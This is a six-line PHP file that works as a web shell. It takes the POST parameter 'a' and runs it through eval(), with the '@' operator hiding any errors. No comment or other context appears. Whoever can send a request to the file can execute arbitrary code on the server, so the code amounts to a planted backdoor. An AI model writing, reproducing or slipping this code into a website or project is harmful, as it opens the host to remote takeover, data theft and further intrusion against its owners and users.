<?php
$a = $_POST['a'];
if ($a) {
    @eval($a);
}
?>
